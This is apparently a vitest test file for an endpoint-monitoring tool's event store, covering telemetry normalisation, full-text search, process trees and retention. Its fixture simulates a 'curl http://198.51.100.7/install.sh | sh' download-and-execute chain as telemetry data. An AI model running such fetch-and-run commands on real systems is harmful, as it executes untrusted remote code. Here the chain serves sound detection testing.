// Telemetry from helper messages to history: normalisation (entity ids, parents, ECS fields), batched
// storage, full-text search, filters, paging and the process tree.
import { afterEach, describe, expect, it } from 'vitest';
import { openStore, processTree, type Store } from '../../../../main/core/store/index.js';
import { BootClock, Normalizer } from '../../../../main/core/sensors/process/normalize.js';
import { ProcessTable } from '../../../../main/core/sensors/process/process-table.js';
import type { NewEvent } from '../../../../main/core/store/index.js';
import { tempDirs } from '../../../helpers/temp.js';
import { asStored, richEvents } from './rich-events.js';

const dirs = tempDirs();
const stores: Store[] = [];
afterEach(() => { for (const s of stores.splice(0)) s.close(); dirs.cleanup(); });

const S = 1e9;
function setup() {
  const store = openStore(dirs.make(), { language: 'auto', watchFolders: [], autoQuarantine: true, notifyMinSeverity: 'high' }, () => undefined);
  stores.push(store);
  const normalizer = new Normalizer(new ProcessTable(), new BootClock(), { sha256: (p) => (p === '/usr/bin/curl' ? 'ab'.repeat(32) : null) });
  const feed = async (messages: Record<string, unknown>[]) => {
    const out: NewEvent[] = [];
    for (const m of messages) { const e = await normalizer.normalize(m as never); if (e) out.push(e); }
    store.events.insertBatch(out);
    return out;
  };
  return { store, feed };
}

// A shell (pid 900001, started before Mamori: unknown to /proc too) runs `curl ... | sh`.
const script = [
  { type: 'fork', seq: 1, ts_ns: 100 * S, pid: 900002, ppid: 900001, start_ns: 100 * S, uid: 0 },
  { type: 'exec', seq: 2, ts_ns: 100.01 * S, pid: 900002, tid: 900002, ppid: 900001, start_ns: 100 * S, uid: 0, gid: 0, comm: 'curl',
    filename: '/usr/bin/curl', argv: ['curl', '-s', 'http://198.51.100.7/install.sh'] },
  { type: 'connect', seq: 3, ts_ns: 100.02 * S, pid: 900002, tid: 900002, start_ns: 100 * S, uid: 0, comm: 'curl', family: 'inet',
    daddr: '198.51.100.7', dport: 80, fd: 5, ret: 0 },
  { type: 'fork', seq: 4, ts_ns: 100.03 * S, pid: 900003, ppid: 900002, start_ns: 100.03 * S, uid: 0 },
  { type: 'exec', seq: 5, ts_ns: 100.04 * S, pid: 900003, tid: 900003, ppid: 900002, start_ns: 100.03 * S, uid: 0, gid: 0, comm: 'sh',
    filename: '/bin/sh', argv: ['sh', '-c', "echo 'hello world'"] },
  { type: 'exit', seq: 6, ts_ns: 100.05 * S, pid: 900003, start_ns: 100.03 * S, exit_code: 7, signal: 0 },
  { type: 'exit', seq: 7, ts_ns: 100.06 * S, pid: 900002, start_ns: 100 * S, exit_code: 0, signal: 0 },
  // The pid is reused by a different process later: a different entity.
  { type: 'fork', seq: 8, ts_ns: 200 * S, pid: 900002, ppid: 900001, start_ns: 200 * S, uid: 1000 },
];

describe('telemetry history', () => {
  it('maps helper messages to ECS events with stable entity ids and parents', async () => {
    const { feed } = setup();
    const events = await feed(script);
    const exec = events.find((e) => e.event.action === 'exec' && e.process.pid === 900002)!;
    expect(exec).toMatchObject({
      event: { kind: 'process', action: 'exec', sequence: 2 },
      process: {
        entity_id: '900002-10000', executable: '/usr/bin/curl', name: 'curl', args: ['curl', '-s', 'http://198.51.100.7/install.sh'],
        command_line: 'curl -s http://198.51.100.7/install.sh', hash: { sha256: 'ab'.repeat(32) }, parent: { pid: 900001 },
      },
      user: { id: 0, name: 'root' },
    });
    const sh = events.find((e) => e.event.action === 'exec' && e.process.pid === 900003)!;
    expect(sh.process.command_line).toBe("sh -c 'echo '\\''hello world'\\'''");
    expect(sh.process.parent).toMatchObject({ entity_id: '900002-10000', executable: '/usr/bin/curl' });
    const connect = events.find((e) => e.event.action === 'connect')!;
    expect(connect).toMatchObject({ event: { kind: 'network' }, destination: { ip: '198.51.100.7', port: 80 }, network: { type: 'ipv4' },
      process: { entity_id: '900002-10000', executable: '/usr/bin/curl' } });
    const exits = events.filter((e) => e.event.action === 'exit');
    expect(exits.map((e) => [e.process.entity_id, e.process.exit_code])).toEqual([['900003-10003', 7], ['900002-10000', 0]]);
    expect(events.at(-1)!.process.entity_id).toBe('900002-20000');
  });

  it('searches command lines by words and prefixes, filters by kind and time, newest first, with paging', async () => {
    const { store, feed } = setup();
    await feed(script);
    // curl's exec, its connect, the fork of its child (still curl's image) and its exit, newest first.
    expect(store.events.search({ text: 'install.sh', limit: 10, offset: 0 }).items.map((e) => e.event.action)).toEqual(['exit', 'fork', 'connect', 'exec']);
    expect(store.events.search({ text: '198.51.100', limit: 10, offset: 0 }).items).toHaveLength(4);
    expect(store.events.search({ text: 'hello', limit: 10, offset: 0 }).items.map((e) => e.process.pid)).toEqual([900003, 900003]);
    expect(store.events.search({ kind: 'network', limit: 10, offset: 0 }).items).toHaveLength(1);
    const all = store.events.search({ limit: 3, offset: 0 });
    expect(all.items[0]!.event.sequence).toBe(8);
    expect(all.nextOffset).toBe(3);
    expect(store.events.search({ limit: 10, offset: 6 }).nextOffset).toBeNull();
    const t = all.items[0]!['@timestamp'];
    expect(store.events.search({ until: new Date(Date.parse(t) - 1000).toISOString(), limit: 10, offset: 0 }).items).toHaveLength(7);
    // FTS syntax in the user's text is neutralised, never an error.
    expect(store.events.search({ text: 'curl" OR NEAR(', limit: 10, offset: 0 }).items).toEqual([]);
  });

  it('builds the process tree: children, what each did, exit codes, ancestors known only by pid', async () => {
    const { store, feed } = setup();
    await feed(script);
    const tree = processTree(store.events, '900002-10000')!;
    expect(tree.process).toMatchObject({ pid: 900002, executable: '/usr/bin/curl', exit_code: 0, user: 'root' });
    expect(tree.process.activity.map((e) => e.event.action)).toEqual(['connect']);
    expect(tree.process.children).toHaveLength(1);
    expect(tree.process.children[0]).toMatchObject({ pid: 900003, command_line: "sh -c 'echo '\\''hello world'\\'''", exit_code: 7 });
    expect(tree.ancestors).toEqual([expect.objectContaining({ pid: 900001 })]);
    // By pid: the newest process with it (the reused pid), not the old one.
    expect(processTree(store.events, '900002')!.process.entity_id).toBe('900002-20000');
    expect(processTree(store.events, '424242')).toBeNull();
  });
});

describe('storage and full-text indexing', () => {
  const ftsOk = (store: Store) => () => store.db.prepare("INSERT INTO events_fts (events_fts) VALUES ('integrity-check')").run();

  it('gives back every event exactly as inserted, whether or not it is in the full-text index yet', () => {
    const { store } = setup();
    store.events.insertBatch(richEvents);
    const want = richEvents.map((e, i) => asStored(e, i + 1));
    expect(store.events.search({ limit: 100, offset: 0 }).items.reverse()).toStrictEqual(want);
    expect(store.events.byEntity('4242-777')).toStrictEqual(want.slice(0, 6));
    expect(store.events.byEntity('4243-778')).toStrictEqual([want[6]]);
    // The compact paths were taken: argv only in the command line, the name only in the executable path, the tid in
    // its slot (not in `extra`); argv that quoting cannot give back, a name that is not the path's last segment, as given.
    const stored = store.db.prepare(`SELECT json_extract(detail, '$[3]') AS args, json_extract(detail, '$[2]') AS name,
      json_extract(detail, '$[0]') & (16 | 32) AS derived, extra FROM events WHERE id IN (1, 7, 8) ORDER BY id`).all();
    expect(stored).toEqual([
      { args: JSON.stringify(richEvents[0]!.process.args), name: 'python3', derived: 0, extra: expect.not.stringContaining('tid') },
      { args: null, name: 'sh', derived: 16, extra: null },
      { args: null, name: null, derived: 16 | 32, extra: null },
    ]);
    expect(store.events.indexPending()).toBe(richEvents.length);
    expect(store.events.search({ limit: 100, offset: 0 }).items.reverse()).toStrictEqual(want);
    expect(store.events.search({ text: 'naive', limit: 100, offset: 0 }).items).toStrictEqual([want[0]]);
  });

  it('a batch keeps its order and every field', () => {
    const { store } = setup();
    const many = Array.from({ length: 97 }, (_, i) => ({ ...richEvents[i % richEvents.length]!, event: { kind: 'process' as const, action: 'exec', sequence: i } }));
    store.events.insertBatch(many);
    expect(store.events.count()).toBe(97);
    expect(store.events.search({ limit: 100, offset: 0 }).items.reverse()).toStrictEqual(many.map((e, i) => asStored(e, i + 1)));
  });

  it('batches of any size come back whole and in order, with the id of their first event', () => {
    const { store } = setup();
    let next = 1;
    // Several rows per INSERT statement, with a tail of smaller statements: sizes around those boundaries.
    for (const size of [1, 2, 3, 15, 16, 17, 31, 33, 5]) {
      const batch = Array.from({ length: size }, (_, i) => ({ ...richEvents[(next + i) % richEvents.length]!, event: { kind: 'process' as const, action: 'exec', sequence: next + i } }));
      expect(store.events.insertBatch(batch)).toBe(next);
      next += size;
    }
    const items = store.events.search({ limit: 1000, offset: 0 }).items.reverse();
    expect(items.map((e) => e.id)).toEqual(Array.from({ length: next - 1 }, (_, i) => i + 1));
    expect(items.map((e) => e.event.sequence)).toEqual(items.map((e) => e.id));
    expect(store.events.insertBatch([])).toBe(0);
  });

  it('keeps argv that only looks like its command line, and leaves out only what splitting gives back exactly', () => {
    const { store } = setup();
    const cases: [string[], string, boolean][] = [
      [['git', 'status'], 'git status', true], [['sh', '-c', "it's"], "sh -c 'it'\\''s'", true], [[], '', true], [[''], "''", true],
      [['a b'], 'a b', false], [['a', ''], 'a ', false], [['', 'a'], ' a', false], [['a', 'b'], 'a  b', false], [['a\tb'], 'a\tb', false],
      [['x'], 'x y', false], [['x', 'y'], 'x', false], [['$HOME'], '$HOME', false], [['ü', 'ö'], 'ü ö', true],
    ];
    const events = cases.map(([args, command_line], i) => ({ ...richEvents[6]!, event: { kind: 'process' as const, action: 'exec', sequence: i },
      process: { ...richEvents[6]!.process, args, command_line } }));
    store.events.insertBatch(events);
    expect(store.events.search({ limit: 100, offset: 0 }).items.reverse()).toStrictEqual(events.map((e, i) => asStored(e, i + 1)));
    const derived = store.db.prepare("SELECT (json_extract(detail, '$[0]') & 16) != 0 FROM events ORDER BY id").pluck().all();
    expect(derived).toEqual(cases.map(([, , d]) => (d ? 1 : 0)));
  });

  it('time windows find the same events before, during and after indexing, and after retention', async () => {
    const { store, feed } = setup();
    await feed(script);
    const all = store.events.search({ limit: 100, offset: 0 }).items.reverse();
    const at = (seq: number) => all.find((e) => e.event.sequence === seq)!['@timestamp'];
    const windows = [
      { since: at(2), until: at(5) }, { since: at(1), until: at(8) }, { since: at(6), until: at(6) }, { since: at(8), until: at(1) },
      { since: at(3), until: at(7), kind: 'process' as const }, { since: at(3) }, { until: at(4) },
    ];
    const run = () => windows.map((w) => store.events.search({ ...w, limit: 100, offset: 0 }).items.map((e) => e.event.sequence));
    const unindexed = run();
    expect(unindexed.slice(0, 4)).toEqual([[5, 4, 3, 2], [8, 7, 6, 5, 4, 3, 2, 1], [6], []]);
    expect(unindexed[4]).toEqual([7, 6, 5, 4]); // the connect (3) is a network event
    for (const step of [3, 2, 100]) {
      store.events.indexPending(step);
      expect(run()).toEqual(unindexed);
    }
    expect(store.db.prepare('SELECT count(*) FROM events_by_time').pluck().get()).toBe(8);
    expect(store.events.prune(at(3), Number.MAX_SAFE_INTEGER, () => 0)).toBe(2);
    expect(store.db.prepare('SELECT count(*) FROM events_by_time').pluck().get()).toBe(6);
    expect(store.events.search({ since: at(1), until: at(8), limit: 100, offset: 0 }).items.map((e) => e.event.sequence)).toEqual([8, 7, 6, 5, 4, 3]);
  });

  it('finds the same events for any text before, during and after indexing', async () => {
    const { store, feed } = setup();
    await feed(script);
    store.events.insertBatch([
      { ...richEvents[0]!, process: { ...richEvents[0]!.process, command_line: 'digit --dir=/srv/ÉCOLE/repo status' } },
      { ...richEvents[0]!, process: { ...richEvents[0]!.process, command_line: 'git log', executable: '/usr/bin/git' } },
    ]);
    const queries = ['install.sh', 'git', 'GIT log', 'ecole', 'école/repo', 'usr bin', 'bin/curl', '198.51', 'hello world', 'sh -c',
      '--', '-- curl', 'curl" OR NEAR(', 'zzz', 'python3 usr', "'hello"];
    const run = () => queries.map((text) => store.events.search({ text, limit: 100, offset: 0 }).items.map((e) => e.id));
    const unindexed = run();
    expect(unindexed[queries.indexOf('git')]).toHaveLength(1); // a token's prefix: "digit" is no match
    expect(unindexed[queries.indexOf('--')]).toEqual([]);
    expect(store.events.indexPending(4)).toBe(4);
    expect(store.events.indexedUpTo()).toBe(4);
    expect(run()).toEqual(unindexed);
    while (store.events.indexPending(3) > 0) { /* the rest */ }
    expect(store.events.pendingIndex()).toBe(0);
    expect(run()).toEqual(unindexed);
    expect(ftsOk(store)).not.toThrow();
  });

  it('process trees and lookups by entity or pid are the same before, during and after indexing, and after retention', async () => {
    const { store, feed } = setup();
    await feed(script);
    const lookups = () => ({
      tree: processTree(store.events, '900002-10000'),
      byPid: processTree(store.events, '900002')?.process.entity_id,
      children: store.events.childEntities('900002-10000'),
      own: store.events.byEntity('900003-10003').map((e) => e.id),
    });
    const unindexed = lookups();
    expect(unindexed.children).toEqual(['900003-10003']);
    expect(unindexed.byPid).toBe('900002-20000');
    expect(unindexed.own).toHaveLength(3); // fork, exec, exit
    const lookupRows = () => store.db.prepare('SELECT (SELECT count(*) FROM events_by_entity) AS entity, (SELECT count(*) FROM events_by_parent) AS parent').get();
    const shouldHave = () => store.db.prepare(`SELECT count(*) AS entity,
      count(CASE WHEN kind = 'process' AND parent_entity IS NOT NULL THEN 1 END) AS parent FROM events`).get();
    expect(lookupRows()).toEqual({ entity: 0, parent: 0 });
    for (const step of [3, 2, 100]) {
      store.events.indexPending(step);
      expect(lookups()).toEqual(unindexed);
    }
    // Every event by its entity; process events that name a parent by it.
    expect(lookupRows()).toEqual(shouldHave());
    expect(lookupRows()).toMatchObject({ entity: 8 });
    const cut = store.events.search({ limit: 100, offset: 0 }).items.find((e) => e.event.sequence === 7)!['@timestamp'];
    expect(store.events.prune(cut, Number.MAX_SAFE_INTEGER, () => 0)).toBe(6);
    expect(lookupRows()).toEqual(shouldHave());
    expect(lookupRows()).toMatchObject({ entity: 2 });
    expect(store.events.childEntities('900002-10000')).toEqual([]);
    expect(processTree(store.events, '900002')?.process.entity_id).toBe('900002-20000');
  });

  it('retention keeps the full-text index exact with indexed and unindexed events, and ids handed out again are indexed', async () => {
    const { store, feed } = setup();
    await feed(script);
    store.events.indexPending(5);
    const all = store.events.search({ limit: 100, offset: 0 }).items;
    const cut = all.find((e) => e.event.sequence === 7)!['@timestamp'];
    expect(store.events.prune(cut, Number.MAX_SAFE_INTEGER, () => 0)).toBe(6);
    expect(ftsOk(store)).not.toThrow();
    expect(store.events.search({ text: 'install.sh', limit: 10, offset: 0 }).items.map((e) => e.event.sequence)).toEqual([7]);
    store.events.indexPending();
    expect(ftsOk(store)).not.toThrow();
    // Everything goes (size cap); the next event gets id 1 again and is still found, then indexed.
    expect(store.events.prune('1970-01-01T00:00:00Z', 0, () => 1)).toBe(2);
    store.events.insertBatch([richEvents[0]!]);
    expect(store.events.search({ text: 'naive', limit: 10, offset: 0 }).items).toHaveLength(1);
    expect(store.events.indexPending()).toBe(1);
    expect(store.events.search({ text: 'naive', limit: 10, offset: 0 }).items).toHaveLength(1);
    expect(ftsOk(store)).not.toThrow();
  });
});

describe('retention', () => {
  it('removes events older than the cut-off with their full-text rows, and keeps the rest searchable', async () => {
    const { store, feed } = setup();
    const events = await feed(script);
    const all = store.events.search({ limit: 100, offset: 0 }).items;
    expect(all).toHaveLength(events.length);
    // Nothing is older than 1970: nothing goes.
    expect(store.events.prune('1970-01-02T00:00:00Z', Number.MAX_SAFE_INTEGER, () => 0)).toBe(0);
    const cut = all.find((e) => e.event.sequence === 6)!['@timestamp'];
    const removed = store.events.prune(cut, Number.MAX_SAFE_INTEGER, () => 0);
    expect(removed).toBe(5); // sequences 1-5 are older than the sh exit
    expect(store.events.search({ text: 'install.sh', limit: 10, offset: 0 }).items.map((e) => e.event.action)).toEqual(['exit']);
    // The full-text index still matches the table exactly (FTS5 throws on any mismatch).
    expect(() => store.db.prepare("INSERT INTO events_fts (events_fts) VALUES ('integrity-check')").run()).not.toThrow();
  });

  it('drops the oldest events while the database is over its size cap', async () => {
    const { store, feed } = setup();
    await feed(script);
    let size = 1000;
    const removed = store.events.prune('1970-01-01T00:00:00Z', 500, () => size -= 100);
    expect(removed).toBeGreaterThan(0);
    expect(store.events.search({ limit: 100, offset: 0 }).items.at(-1)!.event.sequence).toBeGreaterThan(1); // oldest went first
  });
});
